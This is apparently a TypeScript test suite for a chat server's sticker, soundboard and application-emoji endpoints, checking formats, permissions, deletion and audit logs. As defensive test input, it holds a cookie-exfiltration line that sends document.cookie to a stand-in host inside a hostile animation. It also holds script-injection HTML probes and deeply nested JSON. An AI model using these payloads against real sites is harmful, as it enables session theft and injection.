/** What members of a guild, and bots, express themselves with: stickers, sounds, emoji of applications. */
import test from 'ava'
import { conforms } from '../../support/api/conforms.ts'
import { faultOf, load, stickerForm } from '../../support/api/files.ts'
import type { OpCid, Snowflake } from '../../../node/core/ids.ts'
import type { BodyOf } from '../../../node/core/ops.ts'
import type { Fixture, GuildState } from '../../../node/core/state.ts'
import { found, invite, startNode } from '../../support/api/node.ts'
import { must } from '../../support/core/local-app.ts'
import { until } from '../../support/core/on-disk.ts'
import { apng, dataUri, look, lottie, moving, still, SVG } from '../../support/pictures.ts'
import { MP3, mp3Of, OGG, oggOf, taggedMp3 } from '../../support/sounds.ts'

const node = await startNode()
const [alice, bob] = [await node.person('alice'), await node.person('bob')]
const { guild, channel } = await found(alice)
await invite(alice, channel, bob)
test.after.always(async (t) => {
  t.deepEqual(node.faults, [])
  await node[Symbol.asyncDispose]()
})

const at = (path: string): Promise<Awaited<ReturnType<typeof load>>> => load(`${node.url}${path}`)
const pictures = (): number => node.app.storage.blobs.images().length

async function* once(bytes: Uint8Array): AsyncIterable<Uint8Array> {
  yield bytes
}

const target = ({ ids }: GuildState, id: string): OpCid | undefined => {
  const found = ids.get(id as Snowflake)
  return found?.type === 'fixture' ? found.cid : undefined
}

const stickers = `/guilds/${guild}/stickers`
const makeSticker = async (name: string, bytes: Uint8Array | string) => alice.post(stickers, stickerForm(name, bytes))

test.serial('stickers of four kinds are made, listed and shown, each as what it is', async (t) => {
  const { bare, wordy } = await apng()
  const drawn = lottie()
  for (const [name, format, bytes] of [
    ['drawn', 1, await still(600, 300, '#ff0000')],
    ['played', 2, wordy],
    ['animated', 3, JSON.stringify(drawn)],
    ['moving', 4, await moving(3, 64)]
  ] as const) {
    const made = await makeSticker(name, bytes)
    t.like(made, { status: 201, body: { name, format_type: format, description: 'waves', tags: 'hello', type: 2 } })
    conforms(t, 'GuildStickerResponseSchema', made.body)
  }
  const { body: all } = await bob.get(stickers)
  t.deepEqual(
    all.map(({ name }: { name: string }) => name),
    ['drawn', 'played', 'animated', 'moving']
  )
  t.false('user' in all[0], 'whose it is, those are told who manage them')
  t.is((await alice.get(`${stickers}/${all[0].id}`)).body.user.id, alice.id)
  t.is((await bob.get(`/guilds/${guild}`)).body.stickers.length, 4)
  const file = async (n: number, end: string) => at(`/stickers/${all[n].id}.${end}`)
  t.like(await look((await file(0, 'png')).bytes), { format: 'png', width: 320, height: 160 })
  t.like(await look((await file(0, 'webp?size=160')).bytes), { format: 'webp', width: 160 })
  const played = await file(1, 'png')
  t.is(played.headers.get('content-type'), 'image/png')
  t.deepEqual(Buffer.from(played.bytes), Buffer.from(bare), 'without words, and what stood behind it')
  const animated = await file(2, 'json')
  t.is(animated.headers.get('content-type'), 'application/json')
  t.is(animated.headers.get('content-security-policy'), "default-src 'none'; sandbox")
  t.deepEqual(JSON.parse(Buffer.from(animated.bytes).toString()), drawn)
  t.like(await look((await file(3, 'gif')).bytes), { format: 'gif', frames: 3 })
  for (const [n, end] of [
    [0, 'gif'],
    [1, 'json'],
    [2, 'png']
  ] as const)
    t.is((await file(n, end)).status, 415)
  for (const none of ['svg', 'html', 'png.json']) t.is((await file(0, none)).status, 404)
})

test.serial('of an animation nothing is kept that runs, or that is elsewhere', async (t) => {
  const program = "fetch('https://elsewhere.example/?' + document.cookie)"
  const png = dataUri(await still(2, 2))
  const hostile = {
    layers: [{ ty: 4, ks: { r: { a: 0, k: 0, x: program } }, constructor: { prototype: {} } }],
    assets: [
      { id: 'a', u: 'https://elsewhere.example/', p: 'x.png', e: 0 },
      { id: 'b', u: '', p: png, e: 1 },
      { id: 'c', p: dataUri(SVG, 'image/svg+xml'), e: 1 }
    ],
    fonts: { list: [{ fFamily: 'f', fPath: 'https://elsewhere.example/f.woff' }] }
  }
  const { body: made } = await makeSticker('hostile', JSON.stringify(lottie(hostile)))
  const text = Buffer.from((await at(`/stickers/${made.id}.json`)).bytes).toString()
  for (const harm of ['cookie', 'elsewhere', 'svg', 'constructor', '"x"']) t.false(text.includes(harm), harm)
  t.true(text.includes(png))
  const before = pictures()
  await alice.delete(`${stickers}/${made.id}`)
  await until(() => pictures() === before - 1, 'its file gone')
})

test.serial('what is no sticker is refused, and so is who may not make any', async (t) => {
  const { bare } = await apng()
  const broken = Uint8Array.from(bare, (byte, i) => (i === bare.byteLength - 20 ? byte ^ 1 : byte))
  const deep = JSON.stringify(lottie({ nested: 0 })).replace(
    '"nested":0',
    `"nested":${'['.repeat(9000)}${']'.repeat(9000)}`
  )
  const none: Record<string, Uint8Array | string> = {
    page: '<html><script>alert(1)</script>',
    svg: SVG,
    jpeg: await still(9, 9, '#fff', 'jpeg'),
    'an animated PNG with a chunk that is not as its sum says': broken,
    'an animated PNG that is too large': (await apng(321)).bare,
    'an animated PNG without end': (await apng(2, 513)).bare,
    'no JSON': '{',
    'no animation': '{"layers":[]}',
    'an animation of hours': JSON.stringify(lottie({ op: 1e6 })),
    'things in things': deep
  }
  const before = pictures()
  for (const [name, bytes] of Object.entries(none)) {
    t.is(faultOf(await makeSticker('none', bytes), 'file'), 'IMAGE_INVALID', name)
    t.is(pictures(), before, `${name}: not even for a moment`)
  }
  t.is(faultOf(await makeSticker('large', new Uint8Array(512 * 1024 + 1)), 'file'), 'BINARY_TYPE_MAX_SIZE')
  t.is(faultOf(await alice.post(stickers, { name: 'none', tags: 'x' }), 'file'), 'BASE_TYPE_REQUIRED')
  t.is(faultOf(await makeSticker('x', bare), 'name'), 'BASE_TYPE_MIN_LENGTH')
  t.like(await bob.post(stickers, stickerForm('mine', bare)), { status: 403, body: { code: 50013 } })
  t.like(await bob.get(`/stickers/${guild}`), { status: 404, body: { code: 10060 } })
  const stranger = await node.person('dora')
  const [first] = (await bob.get(stickers)).body
  t.is((await stranger.get(`/stickers/${first.id}`)).status, 404)
  t.is((await bob.get(`/stickers/${first.id}`)).body.name, 'drawn')
})

test.serial('a message shows stickers, also when they have gone; their files go with them', async (t) => {
  const before = pictures()
  const [drawn, played] = (await bob.get(stickers)).body
  const said = await bob.post(`/channels/${channel}/messages`, { sticker_ids: [drawn.id, played.id] })
  conforms(t, 'MessageResponseSchema', said.body)
  const items = [
    { id: drawn.id, name: 'drawn', format_type: 1 },
    { id: played.id, name: 'played', format_type: 2 }
  ]
  t.deepEqual(said.body.sticker_items, items)
  const its = `/channels/${channel}/messages/${said.body.id}`
  t.is(faultOf(await bob.patch(its, { sticker_ids: [drawn.id] }), 'sticker_ids'), 'STICKERS_NOT_EDITABLE')
  const same = await bob.patch(its, { content: 'as they are', sticker_ids: [played.id, drawn.id] })
  t.deepEqual([same.status, same.body.sticker_items], [200, items])
  await alice.patch(`${stickers}/${drawn.id}`, { name: 'painted', description: '' })
  t.like((await bob.get(`${stickers}/${drawn.id}`)).body, { name: 'painted', description: null, tags: 'hello' })
  await alice.delete(`${stickers}/${drawn.id}`)
  const { body: again } = await bob.get(`/channels/${channel}/messages/${said.body.id}`)
  t.deepEqual(again.sticker_items, items)
  t.like(await bob.post(`/channels/${channel}/messages`, { sticker_ids: [drawn.id] }), {
    status: 400,
    body: { code: 50081 }
  })
  t.is((await at(`/stickers/${drawn.id}.png`)).status, 404)
  await until(() => pictures() === before - 1, 'its file gone')
  const { body: log } = await alice.get(`/guilds/${guild}/audit-logs?action_type=91`)
  t.deepEqual(log.audit_log_entries[0].changes, [
    { key: 'name', old_value: 'drawn', new_value: 'painted' },
    { key: 'description', old_value: 'waves', new_value: null }
  ])
})

test.serial('what a log names that is no sticker or sound of its kind is not shown', async (t) => {
  const before = pictures()
  const { body: drawn } = await makeSticker('shown', await still())
  const view = must(node.app.guilds.get(guild as Snowflake))
  const owner = must(node.app.accounts.byId(alice.id as Snowflake)).cid
  const page = once(Buffer.from('<html><script>alert(1)</script>'))
  const staged = await node.app.files.stage(page, { image: true })
  const looks = { name: 'page', description: null, tags: 'x' }
  const named = async (body: BodyOf<'fixture.new'>): Promise<string> => {
    const { ops, after } = await node.app.guilds.submit(view.cid, owner, [{ k: 'fixture.new', body }])
    return must(after.fixtures.get(must(ops[0]).cid)).id
  }
  for (const [format, end] of [
    [1, 'png'],
    [2, 'png'],
    [3, 'json'],
    [4, 'gif']
  ] as const) {
    const id = await named({ type: 'sticker', fields: { ...looks, file: staged.blob, format } })
    t.is((await at(`/stickers/${id}.${end}`)).status, 404, end)
    await alice.delete(`${stickers}/${id}`)
  }
  const sound = { name: 'page', volume: 1000, emoji: null, file: staged.blob }
  t.is((await at(`/soundboard-sounds/${await named({ type: 'sound', fields: sound })}`)).status, 404)
  const { fields } = must(view.state.fixtures.get(must(target(view.state, drawn.id)))) as Fixture<'sticker'>
  t.is((await at(`/stickers/${await named({ type: 'sticker', fields: { ...fields, format: 3 } })}.json`)).status, 404)
  for (const { sound_id: id } of (await alice.get(`/guilds/${guild}/soundboard-sounds`)).body.items)
    await alice.delete(`/guilds/${guild}/soundboard-sounds/${id}`)
  staged[Symbol.dispose]()
  await until(() => pictures() === before + 1, 'the page gone')
})

const sounds = `/guilds/${guild}/soundboard-sounds`

test.serial('a guild has sounds of its own, without what stands around them', async (t) => {
  const before = pictures()
  const made = await alice.post(sounds, {
    name: 'horn',
    sound: dataUri(taggedMp3(), 'audio/mpeg'),
    volume: 0.5,
    emoji_name: '📯'
  })
  t.like(made, { status: 201, body: { name: 'horn', volume: 0.5, emoji_name: '📯', emoji_id: null, guild_id: guild } })
  conforms(t, 'SoundboardSoundResponseSchema', made.body)
  const { body: bell } = await alice.post(sounds, { name: 'bell', sound: dataUri(OGG, 'audio/ogg') })
  t.like(bell, { volume: 1, emoji_name: null, user: { id: alice.id } })
  const { body: all } = await bob.get(sounds)
  t.like(all.items, [{ name: 'horn' }, { name: 'bell' }])
  t.false('user' in all.items[0])
  const mp3 = await at(`/soundboard-sounds/${made.body.sound_id}`)
  t.deepEqual(Buffer.from(mp3.bytes), Buffer.from(MP3))
  t.is(mp3.headers.get('content-type'), 'audio/mpeg')
  const part = await load(`${node.url}/soundboard-sounds/${bell.sound_id}`, { headers: { range: 'bytes=0-3' } })
  t.is(part.status, 206)
  t.is(part.headers.get('content-type'), 'audio/ogg')
  const one = `${sounds}/${made.body.sound_id}`
  t.like((await alice.patch(one, { volume: 0.333, emoji_name: null })).body, { volume: 0.333, emoji_name: null })
  t.is((await bob.get(one)).body.volume, 0.333)
  const none: Record<string, Uint8Array | string> = {
    page: '<html><script>alert(1)</script>',
    wave: Buffer.from('RIFF\0\0\0\0WAVEfmt '),
    'tags alone': taggedMp3().subarray(0, 40),
    'a picture': await still()
  }
  for (const [name, bytes] of Object.entries(none))
    t.is(faultOf(await alice.post(sounds, { name: 'none', sound: dataUri(bytes) }), 'sound'), 'SOUND_INVALID', name)
  const long = {
    mp3: mp3Of(210),
    'with junk between': Buffer.concat([mp3Of(105), Buffer.alloc(9), mp3Of(105)]),
    ogg: oggOf(48 * 5600)
  }
  for (const [name, bytes] of Object.entries(long))
    t.is(faultOf(await alice.post(sounds, { name: 'long', sound: dataUri(bytes) }), 'sound'), 'SOUND_TOO_LONG', name)
  for (const bytes of [mp3Of(199), oggOf(48 * 5200)]) {
    const { body: whole } = await alice.post(sounds, { name: 'whole', sound: dataUri(bytes) })
    t.is((await alice.delete(`${sounds}/${whole.sound_id}`)).status, 204)
  }
  const large = { name: 'large', sound: dataUri(new Uint8Array(512 * 1024 + 1)) }
  t.is(faultOf(await alice.post(sounds, large), 'sound'), 'BINARY_TYPE_MAX_SIZE')
  t.is(faultOf(await alice.post(sounds, { name: 'none', sound: null }), 'sound'), 'BASE_TYPE_REQUIRED')
  t.like(await bob.post(sounds, { name: 'mine', sound: dataUri(MP3) }), { status: 403, body: { code: 50013 } })
  t.like(await bob.post(`/channels/${channel}/send-soundboard-sound`, { sound_id: bell.sound_id }), {
    status: 400,
    body: { code: 40032 }
  })
  for (const { sound_id: id } of all.items) t.is((await alice.delete(`${sounds}/${id}`)).status, 204)
  t.like(await bob.get(one), { status: 404, body: { code: 10097 } })
  t.is((await at(`/soundboard-sounds/${bell.sound_id}`)).status, 404)
  await until(() => pictures() === before, 'their files gone')
})

test.serial('an application has emoji of its own, which its bot and its owner keep', async (t) => {
  const robot = await node.bot(alice, 'robot')
  const emojis = `/applications/${robot.id}/emojis`
  const made = await robot.post(emojis, { name: 'spin', image: dataUri(await moving(4, 200), 'image/gif') })
  t.like(made, { status: 201, body: { name: 'spin', animated: true, user: { id: robot.id } } })
  conforms(t, 'EmojiResponseSchema', made.body)
  t.like(await look((await at(`/emojis/${made.body.id}.gif`)).bytes), { format: 'gif', frames: 4, width: 128 })
  t.is((await alice.patch(`${emojis}/${made.body.id}`, { name: 'whirl' })).body.name, 'whirl')
  t.deepEqual((await robot.get(emojis)).body.items, [{ ...made.body, name: 'whirl' }])
  t.is((await robot.get(`${emojis}/${made.body.id}`)).body.name, 'whirl')
  t.like(await bob.get(emojis), { status: 403, body: { code: 20012 } })
  t.like(await bob.post(emojis, { name: 'mine', image: dataUri(SVG) }), { status: 403 })
  t.is(faultOf(await robot.post(emojis, { name: 'none', image: dataUri(SVG) }), 'image'), 'IMAGE_INVALID')
  t.is(faultOf(await robot.post(emojis, { name: 'a b', image: dataUri(SVG) }), 'name'), 'STRING_TYPE_REGEX')
  const before = pictures()
  t.is((await robot.delete(`${emojis}/${made.body.id}`)).status, 204)
  t.like(await robot.delete(`${emojis}/${made.body.id}`), { status: 404, body: { code: 10014 } })
  t.is((await at(`/emojis/${made.body.id}.png`)).status, 404)
  await until(() => pictures() === before - 1, 'its picture gone')
})
